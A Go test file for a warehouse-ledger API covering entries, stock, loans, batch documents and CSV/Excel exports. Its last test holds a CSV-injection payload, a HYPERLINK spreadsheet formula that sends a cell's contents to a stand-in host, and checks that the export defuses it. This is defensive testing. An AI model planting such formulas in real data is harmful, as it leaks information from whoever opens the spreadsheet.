package web_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"parktwin/twin"
	"parktwin/web/auth"
)

type entryAnswer struct {
	ID        string   `json:"id"`
	Op        string   `json:"op"`
	Type      string   `json:"type"`
	Quantity  float64  `json:"quantity"`
	Serials   []string `json:"serials"`
	Actor     string   `json:"actor"`
	Incident  string   `json:"incident"`
	Warehouse string   `json:"warehouse"`
}

type errorAnswer struct {
	Error   string `json:"error"`
	Message string `json:"message"`
	Field   string `json:"field"`
}

// The keeper's API: entries posted by the keeper of a warehouse (who and
// when from the session, not the body), 201 with the entry, 409
// insufficient naming what is short, 422 for bad input; the ledger read
// back with filters, the stock it derives, the readiness of every
// warehouse; a stock patched by hand refused, pointing to the ledger.
func TestLedgerAPI(t *testing.T) {
	base, tw, _ := startServer(t)
	keeper := roleToken(t, base, auth.NewToken{Name: "库管王", Role: auth.Keeper, Warehouses: []string{"WH-02"}})
	as := http.Header{"Authorization": {"Bearer " + keeper}, "Content-Type": {"application/json"}}
	postEntry := func(wh, body string) (int, []byte) {
		t.Helper()
		st, b, _ := doWith(t, "POST", base+"/api/v1/warehouses/"+wh+"/ledger", body, as)
		return st, b
	}

	st, b := postEntry("WH-02", `{"op":"receive","type":"scba","serials":["NEW-001","NEW-002"],"from":"供应商"}`)
	var got entryAnswer
	if st != 201 || json.Unmarshal(b, &got) != nil || got.Actor != "库管王" || !strings.HasPrefix(got.ID, "LE-") || got.Quantity != 2 {
		t.Fatalf("receipt: %d %s", st, b)
	}
	st, b = postEntry("WH-02", `{"op":"issue","type":"scba","serials":["NEW-001"],"to":"TEAM-03","actor":"someone else"}`)
	if st != 400 {
		t.Errorf("an entry naming its own actor: %d %s, want 400 (unknown field)", st, b)
	}
	st, b = postEntry("WH-02", `{"op":"issue","type":"boom","quantity":99999,"to":"TEAM-03"}`)
	var e errorAnswer
	if st != 409 || json.Unmarshal(b, &e) != nil || e.Error != twin.EINSUFFICIENT || !strings.Contains(e.Message, "boom") {
		t.Errorf("an issue of more than is there: %d %s, want 409 insufficient naming boom", st, b)
	}
	for _, bad := range []string{
		`{"op":"receive","type":"tea-kettle","quantity":1}`,
		`{"op":"grab","type":"scba","serials":["X"]}`,
		`{"op":"adjust","type":"boom","quantity":-5}`,
		`{"op":"inspect","type":"scba","serials":["NEW-001"],"result":"fail"}`,
	} {
		if st, b := postEntry("WH-02", bad); st != 422 {
			t.Errorf("%s: %d %s, want 422", bad, st, b)
		}
	}
	// A keeper keeps its own warehouses alone.
	if st, b := postEntry("WH-01", `{"op":"receive","type":"boom","quantity":10}`); st != 403 {
		t.Errorf("another warehouse's ledger: %d %s, want 403", st, b)
	}

	// The ledger, filtered.
	st, b, _ = do(t, "GET", base+"/api/v1/warehouses/WH-02/ledger?serial=NEW-002", "")
	var ledger struct {
		Entries []entryAnswer `json:"entries"`
	}
	if st != 200 || json.Unmarshal(b, &ledger) != nil || len(ledger.Entries) != 1 || ledger.Entries[0].ID != got.ID {
		t.Errorf("ledger by serial: %d %s", st, b)
	}
	st, b, _ = do(t, "GET", base+"/api/v1/warehouses/WH-02/ledger?type=scba&op=receive", "")
	if json.Unmarshal(b, &ledger) != nil || len(ledger.Entries) < 2 { // the opening receipt and this one
		t.Errorf("ledger by type and op: %d %s", st, b)
	}
	if st, b, _ := do(t, "GET", base+"/api/v1/warehouses/WH-02/ledger?from=yesterday", ""); st != 422 {
		t.Errorf("a bad from: %d %s", st, b)
	}

	// The stock it derives.
	st, b, _ = do(t, "GET", base+"/api/v1/warehouses/WH-02/stock", "")
	var stock struct {
		Types []twin.TypeSummary `json:"types"`
	}
	if st != 200 || json.Unmarshal(b, &stock) != nil {
		t.Fatalf("stock: %d %s", st, b)
	}
	want := tw.Snapshot().Summary("WH-02", tw.Clock().Now(), tw.Equipment())
	found := false
	for i, ts := range stock.Types {
		if ts.Type == "scba" {
			found = true
			if ts.Ready != want[i].Ready || ts.OnHand != want[i].OnHand {
				t.Errorf("scba: %+v, want ready %v of %v", ts, want[i].Ready, want[i].OnHand)
			}
		}
	}
	if !found {
		t.Errorf("no scba in %s", b)
	}

	// Readiness of every warehouse.
	st, b, _ = do(t, "GET", base+"/api/v1/readiness", "")
	var ready struct {
		Warehouses []twin.Readiness `json:"warehouses"`
	}
	if st != 200 || json.Unmarshal(b, &ready) != nil || len(ready.Warehouses) != 4 {
		t.Fatalf("readiness: %d %s", st, b)
	}

	// The stock is never patched: 409, pointing to the ledger, even with
	// If-Match; the warehouse's other fields are.
	h := http.Header{"If-Match": {`"1"`}}
	st, b, _ = doWith(t, "PATCH", base+"/api/v1/warehouses/WH-02", `{"properties":{"stock":[]}}`, h)
	if st != 409 || !strings.Contains(string(b), "/api/v1/warehouses/WH-02/ledger") {
		t.Errorf("patch of the stock: %d %s", st, b)
	}
	st, b, _ = do(t, "PATCH", base+"/api/v1/warehouses/WH-02", `{"properties":{"keeper":{"name":"王","phone":"13900000000"}}}`)
	if st != 200 || !strings.Contains(string(b), `"stock":[`) {
		t.Errorf("patch of the keeper: %d %s, want the warehouse with its ledger's stock", st, b)
	}
	// PUT of the warehouse with other stock: 409 too.
	st, b, hd := do(t, "GET", base+"/api/v1/warehouses/WH-02", "")
	if st != 200 {
		t.Fatal(st)
	}
	put := strings.Replace(string(b), `"quantity":`, `"quantity":1`, 1)
	if st, b, _ := doWith(t, "PUT", base+"/api/v1/warehouses/WH-02", put, http.Header{"If-Match": {hd.Get("ETag")}}); st != 409 {
		t.Errorf("a PUT with other stock: %d %s", st, b)
	}
}

// The ledger and the stock as the office exchanges them: CSV and Excel,
// one row per entry or per type, read back by the same library a keeper's
// spreadsheet would be.
func TestLedgerExport(t *testing.T) {
	base, _, _ := startServer(t)
	st, b, h := do(t, "GET", base+"/api/v1/warehouses/WH-01/ledger?format=xlsx", "")
	if st != 200 || h.Get("Content-Type") != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Fatalf("xlsx: %d %s", st, h.Get("Content-Type"))
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	_, jb, _ := do(t, "GET", base+"/api/v1/warehouses/WH-01/ledger", "")
	var ledger struct {
		Entries []entryAnswer `json:"entries"`
	}
	if err := json.Unmarshal(jb, &ledger); err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(ledger.Entries)+1 || rows[0][0] != "编号 id" || rows[1][0] != ledger.Entries[0].ID || rows[1][2] != "receive" {
		t.Errorf("xlsx: %d rows for %d entries; first %v", len(rows), len(ledger.Entries), rows[:min(2, len(rows))])
	}
	st, b, _ = do(t, "GET", base+"/api/v1/warehouses/WH-01/stock?format=csv", "")
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if st != 200 || err != nil || len(recs) < 2 || recs[0][4] != "可用 ready" {
		t.Errorf("stock csv: %d %v %v", st, err, recs)
	}
	if st, b, _ := do(t, "GET", base+"/api/v1/warehouses/WH-01/ledger?format=pdf", ""); st != 422 {
		t.Errorf("format=pdf: %d %s", st, b)
	}
}

// A loan over HTTP: the duty officer asks, the lender's keeper approves
// and issues (another warehouse's keeper may not), the sets are out with
// the loan, and they come back.
func TestLoanAPI(t *testing.T) {
	base, tw, _ := startServer(t)
	duty := http.Header{"Authorization": {"Bearer " + roleToken(t, base, auth.NewToken{Name: "值班员李", Role: auth.DutyOfficer})}}
	mine := http.Header{"Authorization": {"Bearer " + roleToken(t, base, auth.NewToken{Name: "库管王", Role: auth.Keeper, Warehouses: []string{"WH-01"}})}}
	other := http.Header{"Authorization": {"Bearer " + roleToken(t, base, auth.NewToken{Name: "库管赵", Role: auth.Keeper, Warehouses: []string{"WH-02"}})}}
	due := tw.Clock().Now().AddDate(0, 0, 7).Format("2006-01-02")
	st, b, _ := doWith(t, "POST", base+"/api/v1/loans", `{"warehouse":"WH-01","borrower":"TEAM-03","type":"scba","quantity":2,"due":"`+due+`","reason":"有限空间作业保障"}`, duty)
	var f struct {
		ID         string `json:"id"`
		Properties struct {
			State       string   `json:"state"`
			RequestedBy string   `json:"requestedBy"`
			Serials     []string `json:"serials"`
		} `json:"properties"`
	}
	if st != 201 || json.Unmarshal(b, &f) != nil || f.Properties.State != "requested" || f.Properties.RequestedBy != "值班员李" {
		t.Fatalf("request: %d %s", st, b)
	}
	url := base + "/api/v1/loans/" + f.ID
	if st, b, _ := doWith(t, "POST", url+"/approve", "", other); st != 403 {
		t.Errorf("another warehouse's keeper approves: %d %s", st, b)
	}
	if st, b, _ := doWith(t, "POST", url+"/issue", "", mine); st != 409 {
		t.Errorf("issued before it was approved: %d %s", st, b)
	}
	for _, step := range []string{"approve", "issue"} {
		if st, b, _ := doWith(t, "POST", url+"/"+step, "", mine); st != 200 {
			t.Fatalf("%s: %d %s", step, st, b)
		}
	}
	_, b, _ = do(t, "GET", url, "")
	if json.Unmarshal(b, &f) != nil || f.Properties.State != "issued" || len(f.Properties.Serials) != 2 {
		t.Fatalf("issued: %s", b)
	}
	_, b, _ = do(t, "GET", base+"/api/v1/warehouses/WH-01/ledger?op=issue", "")
	if !strings.Contains(string(b), `"loan":"`+f.ID+`"`) {
		t.Errorf("the issue entry does not name the loan: %s", b)
	}
	if st, b, _ := do(t, "GET", base+"/api/v1/loans/overdue", ""); st != 200 || strings.Contains(string(b), f.ID) {
		t.Errorf("overdue: %d %s", st, b)
	}
	if st, b, _ := doWith(t, "POST", url+"/return", `{"result":"pass"}`, mine); st != 200 || !strings.Contains(string(b), `"state":"returned"`) {
		t.Errorf("return: %d %s", st, b)
	}
}

// A document of many lines posted as one request (an array): 201 with
// every entry, resolved in order (sets received and issued in one
// delivery); a document with one short line is 409 naming the line by
// its index and enters nothing; a bad line is 422 naming it; another
// warehouse's keeper is refused; an empty or an over-long document is
// refused.
func TestLedgerDocumentAPI(t *testing.T) {
	base, tw, _ := startServer(t)
	keeper := roleToken(t, base, auth.NewToken{Name: "库管王", Role: auth.Keeper, Warehouses: []string{"WH-02"}})
	as := http.Header{"Authorization": {"Bearer " + keeper}, "Content-Type": {"application/json"}}
	postDoc := func(wh, body string) (int, []byte) {
		t.Helper()
		st, b, _ := doWith(t, "POST", base+"/api/v1/warehouses/"+wh+"/ledger", body, as)
		return st, b
	}
	yesterday := tw.Clock().Now().AddDate(0, 0, -1).Format(time.DateOnly)
	st, b := postDoc("WH-02", `[
		{"op":"receive","type":"scba","serials":["DOC-001","DOC-002","DOC-003"],"from":"供应商","reason":"送货单 2026-118",
		 "tested":{"monthly":"`+yesterday+`","service":"`+yesterday+`"}},
		{"op":"receive","type":"boom","quantity":120,"lot":"DOC-BOOM","from":"供应商"},
		{"op":"issue","type":"scba","quantity":2,"to":"TEAM-03","reason":"训练"}
	]`)
	var got struct {
		Entries []entryAnswer `json:"entries"`
	}
	if st != 201 || json.Unmarshal(b, &got) != nil || len(got.Entries) != 3 {
		t.Fatalf("a delivery note of three lines: %d %s", st, b)
	}
	if s := got.Entries[2].Serials; len(s) != 2 || s[0] != "DOC-001" || got.Entries[0].Actor != "库管王" || got.Entries[1].Quantity != 120 {
		t.Errorf("the document's entries: %+v, want the issue of DOC-001 and DOC-002 by 库管王", got.Entries)
	}

	ledgerLen := func() int {
		t.Helper()
		return tw.Snapshot().Len(twin.KindLedger)
	}
	n, seq := ledgerLen(), tw.Snapshot().Seq()
	st, b = postDoc("WH-02", `[
		{"op":"receive","type":"scba","serials":["DOC-100"]},
		{"op":"issue","type":"boom","quantity":100,"to":"TEAM-03"},
		{"op":"issue","type":"boom","quantity":99999,"to":"TEAM-03"},
		{"op":"receive","type":"boom","quantity":5}
	]`)
	var e errorAnswer
	if st != 409 || json.Unmarshal(b, &e) != nil || e.Error != twin.EINSUFFICIENT || !strings.HasPrefix(e.Field, "[2]") || !strings.Contains(e.Message, "boom") {
		t.Errorf("a document whose line [2] is short: %d %s, want 409 insufficient naming [2] and boom", st, b)
	}
	if ledgerLen() != n || tw.Snapshot().Seq() != seq {
		t.Errorf("the refused document entered lines: %d → %d entries", n, ledgerLen())
	}
	if _, ok := tw.Snapshot().SerialAt("DOC-100"); ok {
		t.Error("the refused document's DOC-100 is in the park")
	}
	for _, bad := range []struct{ body, field string }{
		{`[{"op":"receive","type":"boom","quantity":1},{"op":"grab","type":"scba","serials":["X"]}]`, "[1].op"},
		{`[{"op":"receive","type":"tea-kettle","quantity":1}]`, "[0].type"},
	} {
		st, b := postDoc("WH-02", bad.body)
		if st != 422 || json.Unmarshal(b, &e) != nil || e.Field != bad.field {
			t.Errorf("%s: %d %s, want 422 naming %s", bad.body, st, b, bad.field)
		}
	}
	if st, b := postDoc("WH-02", `[{"op":"receive","type":"boom","quantity":1,"actor":"someone else"}]`); st != 400 {
		t.Errorf("a line naming its own actor: %d %s, want 400", st, b)
	}
	if st, b := postDoc("WH-02", `[]`); st != 422 {
		t.Errorf("an empty document: %d %s, want 422", st, b)
	}
	long := "[" + strings.Repeat(`{"op":"receive","type":"boom","quantity":1},`, twin.MaxDocumentLines) + `{"op":"receive","type":"boom","quantity":1}]`
	if st, b := postDoc("WH-02", long); st != 413 {
		t.Errorf("a document of %d lines: %d %.200s, want 413", twin.MaxDocumentLines+1, st, b)
	}
	if st, b := postDoc("WH-01", `[{"op":"receive","type":"boom","quantity":10}]`); st != 403 {
		t.Errorf("a document for another warehouse's ledger: %d %s, want 403", st, b)
	}
	if ledgerLen() != n {
		t.Errorf("refused documents entered lines: %d → %d entries", n, ledgerLen())
	}
}

// A keeper's reason "=HYPERLINK(…)" was written to the CSV export as it
// was, a formula to the spreadsheet that opens it (CSV injection): a
// cell that begins with = + - @, a tab or a carriage return is written
// with a ' before it, unless it is a plain number (an adjustment's -5).
func TestLedgerCSVNoFormulas(t *testing.T) {
	base, _, _ := startServer(t)
	formula := `=HYPERLINK("http://example.invalid/?x="&A1,"盘点")`
	for _, body := range []string{
		`{"op":"receive","type":"foam-afff-3","quantity":20,"expires":"2031-01-01","reason":` + strconv.Quote(formula) + `}`,
		`{"op":"adjust","type":"foam-afff-3","quantity":-5,"reason":"@SUM(1+1)"}`,
	} {
		if st, b, _ := do(t, "POST", base+"/api/v1/warehouses/WH-01/ledger", body); st != http.StatusCreated {
			t.Fatalf("POST %s: %d %s", body, st, b)
		}
	}
	st, b, _ := do(t, "GET", base+"/api/v1/warehouses/WH-01/ledger?format=csv", "")
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if st != 200 || err != nil {
		t.Fatalf("ledger csv: %d %v", st, err)
	}
	var reasons, quantities []string
	col := func(name string) int {
		return slices.IndexFunc(recs[0], func(h string) bool { return strings.HasSuffix(h, " "+name) })
	}
	r, q := col("reason"), col("quantity")
	if r < 0 || q < 0 {
		t.Fatalf("no reason or quantity column in %v", recs[0])
	}
	for _, rec := range recs[1:] {
		if rec[r] != "" {
			reasons = append(reasons, rec[r])
			quantities = append(quantities, rec[q])
		}
	}
	if !slices.Contains(reasons, "'"+formula) || !slices.Contains(reasons, "'@SUM(1+1)") {
		t.Errorf("reasons %q, want the formulas after a '", reasons)
	}
	if !slices.Contains(quantities, "-5") {
		t.Errorf("quantities %q, want -5 as it is", quantities)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
				t.Errorf("cell %q begins a formula", cell)
			}
		}
	}
}
